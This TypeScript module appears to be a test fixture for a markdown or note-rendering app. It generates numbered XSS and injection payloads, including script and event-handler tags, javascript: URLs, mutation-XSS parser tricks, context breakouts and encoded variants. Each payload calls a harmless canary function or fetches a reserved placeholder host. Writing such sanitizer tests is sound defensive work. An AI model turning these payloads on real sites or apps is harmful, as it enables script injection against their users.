/**
 * Texts that run a script or fetch something where a page takes them for more than text. Each tells by its number which one it was: it calls
 * `ranText`, or it asks for an address of `HIT_HOST`.
 */

/** Nothing but a text of a post asks for this host. */
export const HIT_HOST = "hit.invalid";

type Template = (hit: string, url: string) => string;

const TAGS: readonly Template[] = [
  (hit) => `<script>${hit}</script>`,
  (hit) => `<ScRiPt >${hit}</sCrIpT >`,
  (_, url) => `<script src=//${url}></script>`,
  (_, url) => `<script type=module src=//${url}></script>`,
  (hit) => `<script\u2028>${hit}</script>`,
  (hit) => `<img src=x onerror=${hit}>`,
  (hit) => `<img src=x onerror="${hit}" `,
  (hit) => `<IMG/SRC="x"/ONERROR="${hit}">`,
  (_, url) => `<img src=//${url}>`,
  (_, url) => `<img srcset="//${url} 2x">`,
  (_, url) => `<picture><source srcset=//${url}><img></picture>`,
  (hit) => `<image src=x onerror=${hit}>`,
  (hit) => `<svg onload=${hit}>`,
  (hit) => `<svg><script>${hit}</script></svg>`,
  (hit) => `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  (hit) => `<svg><set onbegin=${hit} attributename=x>`,
  (_, url) => `<svg><image href=//${url}></svg>`,
  (_, url) => `<svg><use href=//${url}#x></svg>`,
  (hit) => `<svg><a xlink:href=javascript:${hit}><text y=20>x</text></a></svg>`,
  (hit) => `<svg><foreignObject><img src=x onerror=${hit}></foreignObject></svg>`,
  (hit) => `<math><mtext><img src=x onerror=${hit}></mtext></math>`,
  (hit) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;"></table></mtext></math>`,
  (hit) => `<math href="javascript:${hit}">x</math>`,
  (hit) => `<body onload=${hit}>`,
  (hit) => `<iframe src="javascript:parent.${hit}"></iframe>`,
  (hit) => `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  (hit) => `<iframe srcdoc="&lt;script&gt;parent.${hit}&lt;/script&gt;"></iframe>`,
  (_, url) => `<iframe src=//${url}></iframe>`,
  (hit) => `<object data="javascript:${hit}"></object>`,
  (_, url) => `<object data=//${url}></object>`,
  (_, url) => `<embed src=//${url}>`,
  (hit) => `<video><source onerror=${hit}></video>`,
  (_, url) => `<video poster=//${url}></video>`,
  (hit) => `<audio src=x onerror=${hit}></audio>`,
  (_, url) => `<audio src=//${url} autoplay></audio>`,
  (hit) => `<details open ontoggle=${hit}>x</details>`,
  (hit) => `<input autofocus onfocus=${hit}>`,
  (hit) => `<select autofocus onfocus=${hit}></select>`,
  (hit) => `<button popovertarget=p onclick=${hit}>x</button>`,
  (hit) => `<marquee onstart=${hit}>x</marquee>`,
  (hit) => `<p onmouseover=${hit} style=position:fixed;inset:0>x</p>`,
  (hit) => `<a href="javascript:${hit}">x</a>`,
  (hit) => `<a href="java&#9;script:${hit}">x</a>`,
  (hit) => `<a href=" &#14; javascript:${hit}">x</a>`,
  (hit) => `<a href="data:text/html,<script>${hit}</script>">x</a>`,
  (hit) => `<a href="vbscript:${hit}">x</a>`,
  (_, url) => `<a href=x ping=//${url}>x</a>`,
  (hit) => `<form action="javascript:${hit}"><button>x</button></form>`,
  (_, url) => `<form action=//${url}><input autofocus></form>`,
  (hit) => `<button formaction="javascript:${hit}">x</button>`,
  (_, url) => `<link rel=stylesheet href=//${url}>`,
  (_, url) => `<link rel=prefetch href=//${url}>`,
  (_, url) => `<link rel=icon href=//${url}>`,
  (_, url) => `<style>@import "//${url}";</style>`,
  (_, url) => `<style>*{background:url(//${url})}</style>`,
  (_, url) => `<p style="background:url(//${url})">x</p>`,
  (hit) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${hit}>x</p>`,
  (_, url) => `<meta http-equiv=refresh content="0;url=//${url}">`,
  (hit) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${hit}</script>">`,
  (_, url) => `<base href=//${url}/>`,
  (hit) => `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  (hit) => `<template><p title="</template><img src=x onerror=${hit}>">`,
  (hit) => `<svg></p><style><a id="</style><img src=x onerror=${hit}>">`,
  (hit) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${hit}></style></mglyph></form>`,
  (hit) => `<xss contenteditable autofocus tabindex=1 onfocus=${hit}>x</xss>`,
  (_, url) => `<body background=//${url}>`,
  (_, url) => `<table background=//${url}><td>x</table>`,
];

/** What ends the place in which a text stands. */
const BREAKOUTS: readonly string[] = [
  '">',
  "'>",
  "</script>",
  "</style></title></textarea></noscript></svg>",
  "--></p></td></table>",
  "]]>",
  "\\",
  "\u2028\n\n",
];

const TEXTS: readonly Template[] = [
  (hit) => `" onmouseover="${hit}" autofocus onfocus="${hit}`,
  (hit) => `' onmouseover='${hit}' autofocus onfocus='${hit}`,
  (hit) => `x onerror=${hit} src=x`,
  (hit) => `<!-- <img title="--><img src=x onerror=${hit}>"`,
  (hit) => `<!--><img src=x onerror=${hit}>-->`,
  (hit) => `<![CDATA[<img src=x onerror=${hit}>]]>`,
  (hit) => `&lt;img src=x onerror=${hit}&gt;`,
  (hit) => `&amp;lt;img src=x onerror=${hit}&amp;gt;`,
  (hit) => `&#60;script&#62;${hit}&#60;/script&#62;`,
  (hit) => `\\u003cimg src=x onerror=${hit}\\u003e`,
  (hit) => `%3Cimg%20src=x%20onerror=${hit}%3E`,
  (hit) => `\uff1cimg src=x onerror=${hit}\uff1e`,
  (hit) => `";${hit};//`,
  (hit) => `';${hit};//`,
  (hit) => `\u2028${hit}\u2029//`,
  (hit) => `\`;\${${hit}};//`,
  (hit) => `\${${hit}}`,
  (hit) => `{{constructor.constructor('${hit}')()}}`,
  (hit) => `{% ${hit} %} #{${hit}} <%= ${hit} %> <?= ${hit} ?>`,
  (hit) => `*/;${hit};/*`,
  (_, url) => `;}*{background:url(https://${url})}`,
  (_, url) => `red;background:url(https://${url})`,
  (hit) => `javascript:${hit}`,
  (hit) => ` jAvA\tScRiPt:${hit}//%0a`,
  (hit) => `data:text/html,<script>${hit}</script>`,
  (hit) => `https://example.org/"onmouseover="${hit}`,
  (hit) => `https://example.org/'><img src=x onerror=${hit}>`,
  (hit) => `[x](javascript:${hit})`,
  (hit) => `[x](<javascript:${hit}> "t")`,
  (hit) => `[x](JaVaScRiPt&colon;${hit})`,
  (hit) => `[x][r]\n\n[r]: javascript:${hit}`,
  (hit) => `[x](data:text/html,<script>${hit}</script>)`,
  (hit) => `<javascript:${hit}>`,
  (_, url) => `![x](https://${url})`,
  (_, url) => `![x][r]\n\n[r]: https://${url}`,
  (_, url) => `[![x](https://${url})](x)`,
  (hit) => `](x) <img src=x onerror=${hit}> [`,
  (hit) => `) <img src=x onerror=${hit}> (`,
  (hit) => `| <img src=x onerror=${hit}> |`,
  (hit) => `\`<img src=x onerror=${hit}>`,
  (hit) => `\`\`\`\n<img src=x onerror=${hit}>\n`,
  (hit) => `\`\`\`dataviewjs\n${hit}\n\`\`\``,
  (hit) => `\\<img src=x onerror=${hit}>`,
  (hit) => `\\\\<img src=x onerror=${hit}>`,
  (hit) => `x\n\n<img src=x onerror=${hit}>\n\nx`,
  (hit) => `---\n---\n<img src=x onerror=${hit}>`,
  (hit) => `> <img src=x onerror=${hit}>`,
  (hit) => `[[x|<img src=x onerror=${hit}>]]`,
  (hit) => `[[javascript:${hit}]]`,
  (_, url) => `![[https://${url}]]`,
  (hit) => `]] <img src=x onerror=${hit}> [[`,
  (hit) => `%% <img src=x onerror=${hit}> %%`,
  (hit) => `<%* ${hit} %>`,
  (hit) => `=${hit}`,
  (hit) => `\u202e<img src=x onerror=${hit}>\u202c`,
  (hit) => `<img src=x onerror=${hit}\u0000>`,
  (hit) => `<\u0000img src=x onerror=${hit}>`,
  (hit) => `\u001b]8;;javascript:${hit}\u0007x\u001b]8;;\u0007`,
];

/** The number of a text and the text. */
export interface Injection {
  n: number;
  text: string;
}

const templates: readonly Template[] = [
  ...TAGS,
  ...TEXTS,
  ...TAGS.flatMap((template, i): Template[] =>
    [i, i + 3].map((at) => (hit, url) => (BREAKOUTS[at % BREAKOUTS.length] ?? "") + template(hit, url)),
  ),
];

/** Every text once. */
export const INJECTIONS: readonly Injection[] = templates.map((template, n) => ({
  n,
  text: template(`ranText(${n})`, `${HIT_HOST}/${n}`),
}));

/** The text of a number; numbers go round. */
export function injection(n: number): string {
  const found = INJECTIONS[n % INJECTIONS.length];
  if (found === undefined) throw new RangeError(`Expected a number from 0 on, got ${n}.`);
  return found.text;
}
